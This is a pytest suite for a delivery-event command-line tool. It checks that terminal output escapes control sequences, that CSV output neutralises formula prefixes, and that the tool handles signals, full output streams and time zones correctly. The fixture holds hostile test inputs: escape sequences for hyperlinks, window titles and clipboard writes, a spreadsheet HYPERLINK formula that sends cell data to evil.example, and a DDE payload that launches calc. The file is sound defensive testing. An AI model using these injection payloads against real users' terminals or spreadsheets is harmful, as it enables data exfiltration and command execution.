"""Hardening II (issue 9), the command line's part: what a new user and an attacker found.

Untrusted text stays text (terminal, spreadsheet), signals and pipes behave as on any Unix filter, and exit 5
is only for bugs.
"""

from __future__ import annotations

import csv
import io
import os
import pty
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cocoevents.store.loader import load

from ..support.cli import run_coco, write_lines

COCO = [sys.executable, "-c", "from cocoevents.cli.launch import run; run()"]
EVIL_MESSAGE = "stuck\u001b]8;;http://evil.example/\u0007click\r\u001b[Kfulfilled OK"
EVIL_NAME = "delivery.\u001b]0;TITLE\u0007\u001b[2Jfailed\u009b31m"
OSC52 = "\u001b]52;c;ZXZpbA==\u0007"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    records = [
        {"event": "demand.assigned", "timestamp": "2026-11-25T10:00:00Z", "delivery_id": "DX1", "robot_id": "R-1"},
        {
            "event": "delivery.failed",
            "timestamp": "2026-11-25T10:01:00Z",
            "delivery_id": "DX1",
            "error": {"code": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "message": EVIL_MESSAGE},
        },
        {"event": EVIL_NAME, "timestamp": "2026-11-25T10:02:00Z", "delivery_id": "DX1", "note": OSC52, "merchant_id": "+cmd|' /C calc'!A0"},
        {
            "event": "delivery.dropoff_started",
            "timestamp": "2026-11-25T10:03:00Z",
            "delivery_id": "DX1",
            "robot_id": "R-1\u001b[31m",
            "kubernetes": {"pod_labels": {"team": "x" * 500}},
            "message": "raw line",
        },
    ]
    store = tmp_path / "s.duckdb"
    load(store, [write_lines(tmp_path / "a" / "x.jsonl", records)])
    return store


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def on_a_terminal(args: list[str], env: dict[str, str] | None = None) -> bytes:
    """What coco writes to a real pseudo-terminal (colour on), as bytes."""
    pid, fd = pty.fork()
    if pid == 0:  # pragma: no cover - the child
        os.environ.update(env or {})
        os.environ.pop("NO_COLOR", None)
        os.execv(sys.executable, [*COCO, *args])
    chunks = []
    while True:
        try:
            data = os.read(fd, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    os.waitpid(pid, 0)
    return b"".join(chunks)


def test_the_table_shows_control_characters_from_event_data_instead_of_sending_them(hostile: Path) -> None:
    plain = run_coco("timeline", "DX1", "--store", str(hostile))
    assert plain.code == 0
    for text in (plain.out, on_a_terminal(["timeline", "DX1", "--store", str(hostile)], {"COLUMNS": "400"}).decode()):
        assert "\u0007" not in text and "\u009b" not in text and "\r\u001b[K" not in text
        assert "]8;;http" not in text.replace("\\x1b]8;;http", "")  # only the visible, escaped form
        assert "\\x1b]8;;http://evil.example/\\x07click\\x0d\\x1b[Kfulfilled OK" in text
        assert "\\x1b]0;TITLE\\x07\\x1b[2J" in text and "\\x9b31m" in text
        assert "\\x1b]52;c;ZXZpbA==\\x07" in text


def test_escape_sequences_on_a_terminal_come_only_from_coco_colours(hostile: Path) -> None:
    raw = on_a_terminal(["timeline", "DX1", "--store", str(hostile)], {"TERM": "xterm-256color", "COLUMNS": "400"})
    sequences = set()
    i = raw.find(b"\x1b")
    while i != -1:
        sequences.add(raw[i : i + 2])
        i = raw.find(b"\x1b", i + 1)
    assert sequences <= {b"\x1b["}  # colour (CSI ... m) only: no OSC title, hyperlink or clipboard
    assert b"\x07" not in raw and b"\x1b]" not in raw


def test_csv_neutralises_formula_prefixes_and_csv_raw_keeps_the_exact_bytes(hostile: Path) -> None:
    safe = read_csv(run_coco("timeline", "DX1", "--store", str(hostile), "-f", "csv").out)
    failed = next(r for r in safe if r["event"] == "delivery.failed")
    assert failed["error_code"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for row in safe:
        for column, value in row.items():
            if column not in ("offset",):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    raw = read_csv(run_coco("timeline", "DX1", "--store", str(hostile), "-f", "csv", "--csv-raw").out)
    assert next(r for r in raw if r["event"] == "delivery.failed")["error_code"].startswith("=HYPERLINK(")
    assert len(safe) == len(raw) == 4  # a CR inside a field is quoted: it never splits a row
    assert next(r for r in raw if r["event"] == "delivery.failed")["error_message"] == EVIL_MESSAGE


def test_csv_details_leave_out_the_shippers_fields_which_json_keeps(hostile: Path) -> None:
    rows = read_csv(run_coco("timeline", "DX1", "--store", str(hostile), "-f", "csv").out)
    last = rows[-1]
    assert "kubernetes" not in last["details"] and "raw line" not in last["details"]
    doc = run_coco("timeline", "DX1", "--store", str(hostile), "-f", "json").json()
    assert doc["events"][-1]["payload"]["kubernetes"]["pod_labels"]["team"] == "x" * 500


def test_a_reader_that_goes_away_ends_coco_quietly_by_sigpipe(hostile: Path) -> None:
    for args in (["events"], ["timeline", "DX1", "--store", str(hostile), "-f", "jsonl"]):
        proc = subprocess.Popen([*COCO, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        proc.stdout.close()  # the reader is gone before coco writes
        err = proc.stderr.read()
        proc.wait(timeout=60)
        assert proc.returncode == -signal.SIGPIPE, (args, proc.returncode, err)  # the shell shows 141
        assert err == b""


def test_a_full_or_closed_stdout_is_one_line_and_exit_2(hostile: Path) -> None:
    with open("/dev/full", "w") as full:
        r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile)], stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert (r.returncode, r.stderr) == (2, "coco: error: cannot write the output: No space left on device\n")
    r = subprocess.run(
        [*COCO, "timeline", "DX1", "--store", str(hostile)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        timeout=60,
        pass_fds=(),
        close_fds=True,
        preexec_fn=lambda: os.close(1),
    )
    assert r.returncode == 2 and r.stderr == "coco: error: standard output is closed; redirect it to a file or /dev/null\n"


def big_robot_store(tmp_path: Path) -> tuple[Path, list[str]]:
    """A store holding a robot day of 18,000 events, and the arguments of its timeline."""
    records = [
        {"event": "robot.state_changed", "timestamp": f"2026-11-25T{h:02d}:{m:02d}:{s:02d}Z", "robot_id": "R-BIG", "n": i}
        for i, (h, m, s) in enumerate((h, m, s) for h in range(10, 20) for m in range(60) for s in range(0, 60, 2))
    ]
    store = tmp_path / "big.duckdb"
    load(store, [write_lines(tmp_path / "a" / "big.jsonl", records)])
    return store, ["timeline", "R-BIG", "--since", "2026-11-25T00:00Z", "--until", "2026-11-26T00:00Z", "--store", str(store)]


@pytest.mark.parametrize("sig, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupt_is_one_line_and_its_own_code(tmp_path: Path, sig: int, code: int) -> None:
    _, args = big_robot_store(tmp_path)
    # jsonl into a pipe read no further than its first byte: coco is surely mid-write when the signal comes
    proc = subprocess.Popen([*COCO, *args, "-f", "jsonl"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout.read(1) == b"{"
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    assert (proc.returncode, err) == (code, b"coco: interrupted\n")


@pytest.mark.parametrize("sig, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupt_while_writing_an_output_file_leaves_no_temporary_file(tmp_path: Path, sig: int, code: int) -> None:
    _, args = big_robot_store(tmp_path)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    proc = subprocess.Popen(
        [*COCO, *args, "-f", "json", "-o", str(out_dir / "t.json")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 60
    while not any(out_dir.iterdir()) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.001)  # until the temporary copy exists: coco is writing it
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    if "coco: wrote" in err:  # pragma: no cover - it finished between the last look and the signal
        pytest.skip("the file was complete before the signal arrived")
    assert (proc.returncode, err) == (code, "coco: interrupted\n")
    assert [p.name for p in out_dir.iterdir()] == []  # neither the file nor its temporary copy


def test_since_and_until_without_an_offset_are_read_in_the_tz_zone(hostile: Path) -> None:
    # 11:00 in Berlin (UTC+1 in November) is 10:00 UTC: the window 10:00-10:01:30 UTC holds two rows
    berlin = run_coco(
        "timeline",
        "DX1",
        "--store",
        str(hostile),
        "-f",
        "json",
        "--tz",
        "Europe/Berlin",
        "--since",
        "2026-11-25T11:00",
        "--until",
        "2026-11-25T11:01:30",
    )
    assert berlin.code == 0, berlin.err
    assert berlin.json()["range"] == {"since": "2026-11-25T10:00:00.000Z", "until": "2026-11-25T10:01:30.000Z"}
    utc = run_coco(
        "timeline", "DX1", "--store", str(hostile), "-f", "json", "--since", "2026-11-25T11:00", "--until", "2026-11-25T11:01:30"
    )
    assert utc.code == 3  # the same wall-clock times in UTC hold nothing
    explicit = run_coco(
        "timeline",
        "DX1",
        "--store",
        str(hostile),
        "-f",
        "json",
        "--tz",
        "Europe/Berlin",
        "--since",
        "2026-11-25T10:00Z",
        "--until",
        "2026-11-25T10:01:30Z",
    )
    assert explicit.json()["range"] == berlin.json()["range"]  # an explicit offset wins over --tz


def test_the_table_fits_the_terminal_width_clipping_details_first(hostile: Path, monkeypatch) -> None:
    wide = run_coco("timeline", "DX1", "--store", str(hostile))
    assert max(len(line) for line in wide.out.splitlines()) > 80  # without a width the details run long
    monkeypatch.setenv("COLUMNS", "80")
    narrow = run_coco("timeline", "DX1", "--store", str(hostile))
    rows = [line for line in narrow.out.splitlines() if line.startswith("10:0")]
    assert rows and all(len(line) <= 80 for line in rows), [len(x) for x in rows]
    assert rows[0].endswith("R-1")  # the ids stay; the details gave way
    monkeypatch.setenv("COLUMNS", "110")
    rows = [line for line in run_coco("timeline", "DX1", "--store", str(hostile)).out.splitlines() if line.startswith("10:0")]
    assert all(len(line) <= 110 for line in rows) and rows[0].endswith("R-1")
    assert "=HYPERLINK(" in rows[1] and rows[1].endswith("…")  # details clipped, with a mark


def test_the_table_header_lists_the_robot_and_pilot_windows(hostile: Path) -> None:
    out = run_coco("timeline", "DX1", "--store", str(hostile)).out
    assert "  windows robot R-1          10:00:00.000 → 10:03:00.000  (3m00s)" in out
    assert "          robot R-1\\x1b[31m  10:03:00.000 → 10:03:00.000  (0s)" in out


def test_shell_completion_can_be_installed() -> None:
    r = run_coco("--help")
    assert "--install-completion" in r.out
    done = subprocess.run(
        [*COCO],
        env={**os.environ, "_COCO_COMPLETE": "complete_bash", "COMP_WORDS": "coco tim", "COMP_CWORD": "1"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "timeline" in done.stdout


def test_help_shows_no_type_noise_after_flags_or_braces_around_the_id() -> None:
    out = run_coco("timeline", "--help").out
    assert "<bool>" not in out and "{ID}" not in out and "<str>" not in out
    assert "UTC|local|ZONE" in "".join(out.split())


def test_usage_lines_name_arguments_without_braces_or_doubled_marks() -> None:
    usage = {
        cmd: next(line.strip() for line in run_coco(*cmd.split(), "--help").out.splitlines() if "Usage:" in line)
        for cmd in ("timeline", "load", "check", "store remove")
    }
    assert usage == {
        "timeline": "Usage: coco timeline [OPTIONS] ID",
        "load": "Usage: coco load [OPTIONS] PATH...",
        "check": "Usage: coco check [OPTIONS] [PATH...]",
        "store remove": "Usage: coco store remove [OPTIONS] [PATH]",
    }
    assert "<str>" not in run_coco("load", "--help").out  # an argument's name says what it takes


def test_the_coco_command_exits_with_its_code_and_whole_output_without_the_interpreters_teardown(hostile: Path, tmp_path: Path) -> None:
    """cli._leave: the process ends by os._exit after atexit handlers ran and both streams were flushed."""
    expected = run_coco("timeline", "DX1", "--store", str(hostile), "-f", "jsonl", "--check")
    assert expected.code == 1 and expected.out.count("\n") > 3
    r = subprocess.run(
        [*COCO, "timeline", "DX1", "--store", str(hostile), "-f", "jsonl", "--check"], capture_output=True, text=True, timeout=60
    )
    assert (r.returncode, r.stdout) == (1, expected.out)
    out = tmp_path / "t.json"
    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-o", str(out)], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and out.read_text() == run_coco("timeline", "DX1", "--store", str(hostile), "-f", "json").out
    hooked = subprocess.run(
        [
            sys.executable,
            "-c",
            "import atexit, sys; atexit.register(lambda: print('atexit ran')); "
            "sys.argv[1:] = ['--version']; from cocoevents.cli.launch import run; run()",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (hooked.returncode, hooked.stdout) == (0, "coco 0.1.0\natexit ran\n")


def test_a_small_answer_leaves_the_read_only_store_open_only_when_the_process_ends_by_os_exit(hostile: Path, monkeypatch) -> None:
    """cli.close_source: under ``run`` (os._exit follows) a read-only local store read for a small answer stays
    open (closing it only frees DuckDB's cache); a big answer, or a library caller of ``main``, closes it."""
    from cocoevents.cli import app as cli
    from cocoevents.duckdb_engine import duckdb
    from cocoevents.sources.local import LocalSource

    def opened() -> bool:
        try:
            source.con.execute("SELECT 1").fetchone()
            return True
        except duckdb.ConnectionException:
            return False

    monkeypatch.setattr(cli, "LEFT_OPEN", [])
    for leaving, small, stays in ((False, True, False), (True, False, False), (True, True, True)):
        monkeypatch.setitem(cli.STATE, "leaving", leaving)
        source = LocalSource(hostile)
        cli.close_source(source, small=small)
        assert opened() is stays and (source in cli.LEFT_OPEN) is stays
    # the coco command leaves it open and exits with the whole answer all the same
    r = subprocess.run([*COCO, "timeline", "DX1", "--store", str(hostile), "-f", "jsonl"], capture_output=True, text=True, timeout=60)
    assert (r.returncode, r.stdout) == (0, run_coco("timeline", "DX1", "--store", str(hostile), "-f", "jsonl").out)
